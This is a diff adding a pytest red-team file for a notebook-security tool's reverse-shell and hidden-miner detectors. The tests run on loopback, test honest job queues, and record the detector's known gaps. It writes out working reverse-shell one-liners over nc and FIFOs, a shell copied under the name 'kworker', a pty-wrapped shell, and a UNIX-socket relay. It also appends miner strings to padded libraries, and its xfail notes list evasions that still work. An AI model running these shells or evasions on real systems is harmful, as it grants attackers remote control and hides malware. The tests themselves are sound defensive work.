@@ -1,0 +1,365 @@
+"""Session 23: today's two detections attacked by a notebook user who has read the code (the
+shell in a loop of pipes through a connection, observe/pipes.py; the unowned library read past
+the scan's bound, content._library_tail), then run as an honest researcher would. Real
+processes, real sampler, scanner and engine; everything on loopback.
+
+Found and fixed:
+- An honest local job queue in a `%%bash` cell (`nc -l PORT < q | while read job; do ...;
+  done > q`) was named remote-reverse-shell: the `while` segment is a fork of the cell's bash
+  (its command line `bash`, no script), its output reaches nc, which holds the accepted
+  connection and feeds its input. A shell that is a fork of its parent which exec'd nothing
+  (the same auxiliary vector) runs its parent's script and reads data, not commands: it is no
+  longer given a relay (pipes.forked_from).
+- The same queue's loop run by the cell's bash itself (`nc -l PORT < q > p & while read job;
+  ...; done > q < p`) was named: the bash's streams are p and q while the loop runs. Its
+  script's stdin is then put aside, close-on-exec, at fd 10 or more, as bash and dash do for a
+  redirection in force; a shell holding such a fd (no terminal, no copy of fds 0-2: bash -i's
+  255 is its stderr's) runs its script (pipes.running_its_script).
+- A loop through five `cat`s (`cat f | cat | cat | cat | cat | sh -i | nc > f`) passed: the
+  search stopped at four processes. It now follows a loop through all the processes read
+  (the search visits each once).
+- A loop started before 70 idle children was pushed out of the 64 processes whose fds are read
+  (the newest first). Those holding a connection, then those with a pipe or FIFO on their
+  streams, are now read first.
+
+Left (strict xfail, the reasons on each): a renamed copy of a shell, a shell behind a pty
+(`script -qc 'sh -i'`), a loop through a UNIX socket to the process holding the connection,
+a shell fed by `tail -f` of a regular file its relay appends to, the `while read l; do $l;
+done` loop a job queue's shape hides, a padded library listed by a RECORD of the user's own
+(a wheel the user installs is owned by design), and a library that maps part of its own file
+no loadable segment covers.
+
+Measured (not kept as a test: 6 GB of files): a Python process mapping 20 copies of a 300 MiB
+library no package owns (a conda environment's lib, which no RECORD lists) costs 4.9 GB read
+past the bound once (236 MiB each, none cut), 13.4 s (12.2 s of CPU) on this 2-core machine
+with a warm page cache; a second process from the cache, nothing. A ProcessSampler ticking
+every 0.1 s over that tree meanwhile took 17 ms at most a tick (the scans run in the
+background).
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import socket
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+
+from colab_guard.observe import pipes
+from colab_guard.observe.processes import ProcessSampler
+from tests import test_content_library_tail as library_tail
+from tests.harness import wait_until
+from tests.test_redteam_sampled20 import _group, _loop_ticks
+from tests.test_shell_streams import _wait_for, listener  # noqa: F401 (a fixture)
+
+tail_scanner = library_tail.scanner  # a fixture: a warmed scanner whose bound is 1 MiB
+
+
+def _relay_connected(kernel: int, holder: str = "nc") -> None:
+    """Until the tree's ``holder`` holds its connection (the loop is closed)."""
+    _wait_for(ProcessSampler(), kernel, lambda p: p.name.startswith(holder) and p.sockets)
+
+
+def _reverse_shell(line: str, listener, tmp_path: Path,  # noqa: F811
+                   holder: str = "nc") -> tuple[set, dict]:
+    """``line`` (``{f}``: a FIFO, ``{port}``: the listener's, ``{d}``: a folder) run by
+    `bash -c` as the kernel, once its ``holder`` is connected: _loop_ticks' detections and
+    relays."""
+    fifo = tmp_path / "f"
+    os.mkfifo(fifo)
+    with _group(["bash", "-c", line.format(f=fifo, port=listener.port, d=tmp_path)],
+                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as kernel:
+        listener.accept_one()
+        _relay_connected(kernel.pid, holder)
+        return _loop_ticks(kernel.pid)
+
+
+# ---------------------------------------------------------------- evasions, fixed
+
+def test_a_loop_through_more_than_four_processes_is_recognised(listener, tmp_path):  # noqa: F811
+    found, relays = _reverse_shell(
+        "cat {f} | cat | cat | cat | cat | sh -i 2>&1 | nc 127.0.0.1 {port} > {f}",
+        listener, tmp_path)
+    assert relays["sh -i"].startswith("nc")
+    assert ("remote-reverse-shell", "remote-access", "sh -i") in found
+
+
+def test_a_loop_among_more_idle_children_than_are_read_is_recognised(listener,  # noqa: F811
+                                                                     tmp_path):
+    """70 idle children started after the loop (the newest, listed first): more than the 64
+    processes whose fds are read. The loop's processes are read first."""
+    line = ("cat {f} | sh -i 2>&1 | nc 127.0.0.1 {port} > {f} & "
+            "for i in $(seq 70); do sleep 60 & done; wait")
+    fifo = tmp_path / "f"
+    os.mkfifo(fifo)
+    with _group(["bash", "-c", line.format(f=fifo, port=listener.port)],
+                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as kernel:
+        listener.accept_one()
+        _wait_for(ProcessSampler(), kernel.pid, lambda p: p.name.startswith("nc") and p.sockets)
+        wait_until(lambda: sum(p.name == "sleep" for p in _tree(kernel.pid)) == 70,
+                   timeout=30, what="the idle children started")
+        found, relays = _loop_ticks(kernel.pid)
+        assert relays["sh -i"].startswith("nc")
+        assert ("remote-reverse-shell", "remote-access", "sh -i") in found
+
+
+@pytest.mark.parametrize("shell", ["bash -i", "bash"])
+def test_bash_in_a_loop_is_recognised_with_its_own_close_on_exec_copy_of_stderr(
+        shell, listener, tmp_path):  # noqa: F811
+    """bash -i keeps a close-on-exec copy of its stderr at fd 255: no stream put aside (the
+    near-miss of the job queue whose cell's bash saved its script's stdin)."""
+    found, relays = _reverse_shell(
+        f"cat {{f}} | {shell} 2>&1 | nc 127.0.0.1 {{port}} > {{f}}", listener, tmp_path)
+    assert relays[shell].startswith("nc")
+    assert ("remote-reverse-shell", "remote-access", shell) in found
+
+
+@pytest.mark.skipif(shutil.which("busybox") is None, reason="needs busybox")
+@pytest.mark.parametrize("shell, line", [
+    pytest.param("busybox sh -i", "cat {f} | busybox sh -i 2>&1 | nc 127.0.0.1 {port} > {f}",
+                 id="busybox-applet"),
+    pytest.param("sh -i", "cat {f} | sh -i 2>&1 >/dev/null | nc 127.0.0.1 {port} > {f}",
+                 id="stderr-only"),
+])
+def test_tried_and_already_recognised(shell, line, listener, tmp_path):  # noqa: F811
+    """busybox's shell applet, and a loop through the shell's stderr alone (stdout to
+    /dev/null)."""
+    found, relays = _reverse_shell(line, listener, tmp_path)
+    assert relays[shell].startswith("nc")
+    assert ("remote-reverse-shell", "remote-access", shell) in found
+
+
+def _tree(root: int) -> list:
+    return ProcessSampler().sample({"k": root})["k"].processes
+
+
+# ---------------------------------------------------------------- honest, kept clean
+
+def test_a_bash_cell_serving_a_local_job_queue_with_nc_is_left_alone(tmp_path):
+    """A `%%bash` cell's bash (its script on a pipe, no arguments) runs a job queue on
+    loopback: `nc -l PORT < q | while read job; do echo "done $job"; done > q`. A client
+    sends a job and reads the result: a loop through nc's accepted connection, but the
+    `while` segment is a fork of the cell's bash running its script, no shell reading
+    commands."""
+    queue = tmp_path / "q"
+    os.mkfifo(queue)
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    cell = (f'nc -l 127.0.0.1 {port} < {queue} | '
+            f'while read job; do echo "done $job"; done > {queue}\n')
+    bash = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
+                            start_new_session=True)
+    bash.stdin.write(cell.encode())
+    bash.stdin.close()
+    try:
+        client = _connect_when_listening(port)
+        client.sendall(b"train-1\n")
+        assert client.makefile().readline() == "done train-1\n"  # the queue works
+        _wait_for(ProcessSampler(), bash.pid,
+                  lambda p: p.name.startswith("nc") and any(s.remote for s in p.sockets))
+        found, relays = _loop_ticks(bash.pid)
+        assert "bash" in relays and set(relays.values()) == {""}
+        assert found == set()
+        client.close()
+    finally:
+        os.killpg(bash.pid, 9)
+        bash.wait()
+
+
+def test_a_bash_cells_own_loop_redirected_to_a_job_queue_is_left_alone(tmp_path):
+    """The queue's loop in the cell's bash itself: `nc -l PORT < q > p &` and `while read
+    job; ...; done > q < p`. While the loop runs, the cell's bash has p and q on its streams
+    and its script's stdin put aside (a close-on-exec fd past 10): it runs its script."""
+    p, q = tmp_path / "p", tmp_path / "q"
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    cell = (f"mkfifo {p} {q}; nc -l 127.0.0.1 {port} < {q} > {p} &\n"
+            f'while read job; do echo "done $job"; done > {q} < {p}\n')
+    bash = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
+                            start_new_session=True)
+    bash.stdin.write(cell.encode())
+    bash.stdin.close()
+    try:
+        client = _connect_when_listening(port)
+        client.sendall(b"train-2\n")
+        assert client.makefile().readline() == "done train-2\n"
+        _wait_for(ProcessSampler(), bash.pid,
+                  lambda p: p.name.startswith("nc") and any(s.remote for s in p.sockets))
+        found, relays = _loop_ticks(bash.pid)
+        assert relays["bash"] == "" and found == set()
+        assert pipes.running_its_script(bash.pid)
+        client.close()
+    finally:
+        os.killpg(bash.pid, 9)
+        bash.wait()
+
+
+def _connect_when_listening(port: int, timeout: float = 20.0) -> socket.socket:
+    deadline = time.monotonic() + timeout
+    while True:
+        try:
+            return socket.create_connection(("127.0.0.1", port), timeout=10)
+        except ConnectionRefusedError:
+            if time.monotonic() > deadline:
+                raise
+            time.sleep(0.05)  # polling for nc's listening socket
+
+
+def test_a_forked_subshell_is_told_from_a_shell_it_execs(tmp_path):
+    """pipes.forked_from: a pipeline's `while` segment is a fork of its bash; `bash` started
+    by that bash, the same program and arguments, is not."""
+    marker = tmp_path / "pids"
+    line = (f"sleep 30 | while read _; do :; done & echo $! > {marker}.fork; "
+            f"bash -c 'sleep 30' & echo $! > {marker}.exec; wait")
+    with _group(["bash", "-c", line]) as kernel:
+        pids = {}
+        for kind in ("fork", "exec"):
+            path = Path(f"{marker}.{kind}")
+            wait_until(lambda: path.exists() and path.read_text().strip(), timeout=20,
+                       what=f"the {kind} pid written")
+            pids[kind] = int(path.read_text())
+        assert pipes.forked_from(pids["fork"], kernel.pid)
+        assert not pipes.forked_from(pids["exec"], kernel.pid)
+        assert not pipes.forked_from(os.getpid(), os.getppid())
+
+
+# ---------------------------------------------------------------- left
+
+@pytest.mark.xfail(strict=True, reason=(
+    "a shell is told by the basenames of its file and first word (pipes.is_shell, the "
+    "signature's exe_name/argv0): a byte-for-byte copy of dash named kworker is no shell to "
+    "either; telling it needs the program's identity by content, which no field gives"))
+def test_a_renamed_copy_of_a_shell_in_a_loop_is_recognised(listener, tmp_path):  # noqa: F811
+    found, _ = _reverse_shell(
+        "cp /bin/dash {d}/kworker; cat {f} | {d}/kworker -i 2>&1 | nc 127.0.0.1 {port} > {f}",
+        listener, tmp_path)
+    assert any(sig == "remote-reverse-shell" for sig, _, _ in found)
+
+
+@pytest.mark.skipif(shutil.which("script") is None, reason="needs util-linux's script")
+@pytest.mark.xfail(strict=True, reason=(
+    "behind a pty (`cat f | script -qc 'sh -i' /dev/null | nc > f`) the shell's streams are "
+    "the pty's slave, no pipe; the loop runs through script, no shell, which holds the master: "
+    "following a loop through a pty's master is not done"))
+def test_a_shell_behind_a_pty_in_a_loop_is_recognised(listener, tmp_path):  # noqa: F811
+    found, _ = _reverse_shell(
+        "cat {f} | script -qc 'sh -i' /dev/null 2>&1 | nc 127.0.0.1 {port} > {f}",
+        listener, tmp_path)
+    assert any(sig == "remote-reverse-shell" for sig, _, _ in found)
+
+
+RELAY = """
+import socket, sys, threading
+server = socket.socket(socket.AF_UNIX)
+server.bind(sys.argv[1])
+server.listen(1)
+inside, _ = server.accept()
+outside = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
+def pump(a, b):
+    while data := a.recv(4096):
+        b.sendall(data)
+threading.Thread(target=pump, args=(inside, outside), daemon=True).start()
+pump(outside, inside)
+"""
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "the loop's hop that touches the network is `nc -U`, holding a UNIX socket to a Python "
+    "relay (no pipe on it) that holds the TCP connection: a loop is followed through pipes "
+    "and FIFOs only, and a UNIX socket's peer is not read (it needs sock_diag)"))
+def test_a_loop_through_a_unix_socket_to_the_connection_is_recognised(listener,  # noqa: F811
+                                                                      tmp_path):
+    relay = tmp_path / "relay.py"
+    relay.write_text(RELAY)
+    found, _ = _reverse_shell(
+        f"python3 {relay} {{d}}/s {{port}} & while [ ! -S {{d}}/s ]; do sleep 0.05; done; "
+        "cat {f} | sh -i 2>&1 | nc -U {d}/s > {f}", listener, tmp_path, holder="python")
+    assert ("remote-reverse-shell", "remote-access", "sh -i") in found
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "`tail -f log | sh -i | nc >> log`: the loop closes through a regular file, nc appending "
+    "and tail following it; a loop is followed through pipes and FIFOs only (a regular file "
+    "written and read by two processes is every log's shape)"))
+def test_a_shell_fed_by_tail_f_of_a_file_its_relay_appends_to_is_recognised(listener,  # noqa: F811
+                                                                           tmp_path):
+    found, _ = _reverse_shell(
+        "touch {d}/log; tail -f {d}/log | sh -i 2>&1 | nc 127.0.0.1 {port} >> {d}/log",
+        listener, tmp_path)
+    assert ("remote-reverse-shell", "remote-access", "sh -i") in found
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "a `while read l; do $l; done` loop in a `%%bash` cell, fed by nc and writing back to "
+    "it, runs what the network sends as commands; but its process is a fork of the cell's "
+    "bash running the cell's script, the very shape of an honest job queue's `while read job` "
+    "(test_a_bash_cell_serving_a_local_job_queue_with_nc_is_left_alone): what the loop's "
+    "body does with a line is in the script, which no field reads"))
+def test_a_while_read_eval_loop_in_a_bash_cell_is_recognised(listener, tmp_path):  # noqa: F811
+    fifo = tmp_path / "f"
+    os.mkfifo(fifo)
+    cell = (f"cat {fifo} | while read l; do $l; done 2>&1 | "
+            f"nc 127.0.0.1 {listener.port} > {fifo}\n")
+    bash = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.DEVNULL, start_new_session=True)
+    bash.stdin.write(cell.encode())
+    bash.stdin.close()
+    try:
+        listener.accept_one()
+        _relay_connected(bash.pid)
+        found, _ = _loop_ticks(bash.pid)
+        assert any(sig == "remote-reverse-shell" for sig, _, _ in found)
+    finally:
+        os.killpg(bash.pid, 9)
+        bash.wait()
+
+
+# ---------------------------------------------------------------- the library read past the bound
+
+needs_gcc = pytest.mark.skipif(shutil.which("gcc") is None, reason="needs gcc")
+
+
+@needs_gcc
+@pytest.mark.xfail(strict=True, reason=(
+    "a padded Stratum library listed, with its true hash and size, in a RECORD the user wrote "
+    "after it (`pip install` of a wheel of their own does exactly that) is owned: a RECORD "
+    "written in the session, its INSTALLER and its ctime are the user's to write, and telling "
+    "it from an honest wheel installed in the session would read every such wheel's libraries "
+    "past the bound (torch installed in a notebook)"))
+def test_a_padded_library_listed_by_a_record_of_the_users_own_is_read(tail_scanner, tmp_path):
+    site = library_tail._environment(tmp_path)
+    library = library_tail._library(site / "fastpkg" / "libfast.so", library_tail.MINER_TEXT,
+                                    2 * library_tail.BOUND)
+    library_tail._installed(site, library)
+    markers, _ = library_tail._loaded(tail_scanner, library)
+    assert "stratum-miner" in markers, markers
+
+
+#: Load a library, then map the file's last page (past every loadable segment) as it would.
+LOAD_AND_MAP_TAIL = ("import ctypes, mmap, os, sys\nctypes.CDLL(sys.argv[1])\n"
+                     "f = open(sys.argv[1], 'rb')\nsize = os.fstat(f.fileno()).st_size\n"
+                     "tail = mmap.mmap(f.fileno(), size % mmap.PAGESIZE or mmap.PAGESIZE,\n"
+                     "                 prot=mmap.PROT_READ,\n"
+                     "                 offset=size - (size % mmap.PAGESIZE or mmap.PAGESIZE))\n"
+                     "print('loaded', flush=True)\nsys.stdin.read()\n")
+
+
+@needs_gcc
+@pytest.mark.xfail(strict=True, reason=(
+    "Stratum requests appended to a padded library's file past its loadable segments, which "
+    "the library maps itself at run time: the tail read covers what the loader maps, and a "
+    "library's mappings are not read from memory"))
+def test_a_library_mapping_its_own_files_tail_at_run_time_is_recognised(tail_scanner,
+                                                                        tmp_path, monkeypatch):
+    library = library_tail._library(tmp_path / "libfast.so", library_tail.HONEST_TEXT,
+                                    2 * library_tail.BOUND)
+    with open(library, "ab") as f:
+        f.write(b"\0" * 4096 + library_tail.MINER_TEXT.replace("\\n", "\n").encode())
+    monkeypatch.setattr(library_tail, "LOAD", LOAD_AND_MAP_TAIL)
+    markers, _ = library_tail._loaded(tail_scanner, library)
+    assert "stratum-miner" in markers, markers
